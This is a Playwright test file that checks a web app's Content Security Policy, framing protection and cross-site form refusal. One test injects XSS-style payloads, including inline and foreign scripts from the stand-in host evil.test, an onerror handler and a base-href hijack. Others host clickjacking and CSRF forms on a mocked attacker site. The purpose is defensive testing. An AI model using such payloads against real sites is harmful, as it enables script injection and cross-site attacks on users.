import { demo, newEvent, send, signIn, user } from "./demo.ts";
import { expect, type Page, test } from "./test.ts";

interface Violation {
  directive: string;
  blocked: string;
  page: string;
}

/** Collects what the policy of any page of the tab stops, from its first byte on. */
async function watchPolicy(page: Page): Promise<Violation[]> {
  const violations: Violation[] = [];
  await page.exposeBinding("reportViolation", (_, violation: Violation) => void violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const report = (window as unknown as { reportViolation: (violation: object) => void }).reportViolation;
      report({ directive: event.effectiveDirective, blocked: event.blockedURI, page: location.pathname });
    });
  });
  page.on("console", (message) => {
    if (/Content.Security.Policy/i.test(message.text()))
      violations.push({ directive: "console", blocked: message.text(), page: page.url() });
  });
  return violations;
}

const panelOf = (page: Page) => page.getByRole("complementary", { name: "Event" });

async function useEverything(page: Page, id: string): Promise<void> {
  await page.goto(`/t/acme/events?q=id%3A${id}&range=all&event=${id}`);
  await panelOf(page).getByRole("tab", { name: "Raw" }).click();
  await panelOf(page).getByRole("tab", { name: "Proof" }).click();
  await panelOf(page).getByRole("button", { name: "Verify in this browser" }).click();
  await expect(panelOf(page).getByText("Verified in this browser")).toBeVisible();
  await page.keyboard.press("Escape");
  await page.keyboard.press("?");
  await expect(page.getByRole("dialog", { name: "Keys" })).toBeVisible();
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe("hidden");
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: /account and theme/ }).click();
  await page.keyboard.press("Escape");
  await page.getByRole("link", { name: "Integrity", exact: true }).click();
  await expect(page).toHaveURL(/integrity/);
  await page.getByRole("link", { name: "Send events", exact: true }).click();
  await expect(page).toHaveURL(/sources/);
}

for (const scheme of ["light", "dark"] as const) {
  test(`no page runs into its own policy, ${scheme}`, async ({ page }) => {
    const violations = await watchPolicy(page);
    await page.emulateMedia({ colorScheme: scheme });
    await signIn(page, user("acme", "owner"), "/signin");
    const [receipt] = await send([newEvent()]);
    await useEverything(page, receipt!.id);
    for (const path of [
      "/t/acme/events",
      `/t/acme/events/${receipt!.id}`,
      "/t/acme/events/00000000-0000-7000-8000-000000000000",
      "/t/acme/integrity",
      "/t/acme/sources",
      "/t/nobody/events",
      "/nothing/here",
    ]) {
      await page.goto(path);
      await expect(page.getByRole("heading").first()).toBeVisible();
      await expect(page.locator("html")).toHaveAttribute("data-mantine-color-scheme", scheme);
    }
    expect(violations).toEqual([]);
  });
}

test("what is smuggled into a page does not run, and the watch sees it", async ({ page }) => {
  const violations = await watchPolicy(page);
  const smuggled = [
    "<script>window.smuggled = 1</script>",
    '<script nonce="AAAAAAAAAAAAAAAAAAAAAAAA">window.smuggled = 2</script>',
    '<script src="https://evil.test/x.js"></script>',
    '<img src="x" onerror="window.smuggled = 3">',
    "<style>body { display: none }</style>",
    '<base href="https://evil.test/">',
    '<iframe srcdoc="<script>parent.smuggled = 4</script>"></iframe>',
    '<img src="https://evil.test/pixel.gif">',
  ];
  await page.route("**/signin", async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("<main", `${smuggled.join("")}<main`);
    await route.fulfill({ response, body });
  });
  await page.goto("/signin");
  await expect(page.getByRole("heading", { name: "Sign in" })).toBeVisible();
  const stopped = () => new Set(violations.map(({ directive }) => directive));
  for (const directive of ["script-src-elem", "script-src-attr", "style-src-elem", "base-uri", "img-src"])
    await expect.poll(stopped).toContain(directive);
  await page.evaluate(() => {
    const inline = document.createElement("script");
    inline.textContent = "window.smuggled = 5";
    const foreign = document.createElement("script");
    foreign.src = "https://evil.test/by-script.js";
    document.body.append(inline, foreign);
  });
  await expect.poll(() => violations.map(({ blocked }) => blocked)).toContain("https://evil.test/by-script.js");
  expect(await page.evaluate(() => (window as unknown as { smuggled?: number }).smuggled)).toBeUndefined();
});

/** A page of another site, as this browser sees it. */
async function foreignPage(page: Page, html: string): Promise<void> {
  await page.route("http://evil.test/**", (route) => route.fulfill({ contentType: "text/html", body: html }));
  await page.goto("http://evil.test/");
}

test("no other site can frame a page", async ({ page }) => {
  await foreignPage(page, `<iframe name="framed" src="${demo.url}/signin"></iframe>`);
  await expect.poll(() => page.frame("framed")?.url()).toMatch(/^chrome-error:/);
});

test("a form of another site is refused, also to somebody who is signed in", async ({ page }) => {
  await signIn(page, user("acme", "viewer"));
  for (const path of ["/t/acme/events", "/signin", "/api/auth/signout", "/api/auth/callback/credentials"]) {
    const form = `<form method="post" action="${demo.url}${path}" enctype="multipart/form-data"><button>Win</button></form>`;
    await page.unroute("http://evil.test/**");
    await foreignPage(page, form);
    const [response] = await Promise.all([
      page.waitForResponse((one) => one.request().method() === "POST"),
      page.getByRole("button").click(),
    ]);
    expect(response.status(), path).toBe(403);
    await expect(page.getByText("nothing was changed")).toBeVisible();
  }
  await page.goto("/t/acme/events");
  await expect(page.getByRole("heading", { name: "Events", level: 1 })).toBeVisible();
});
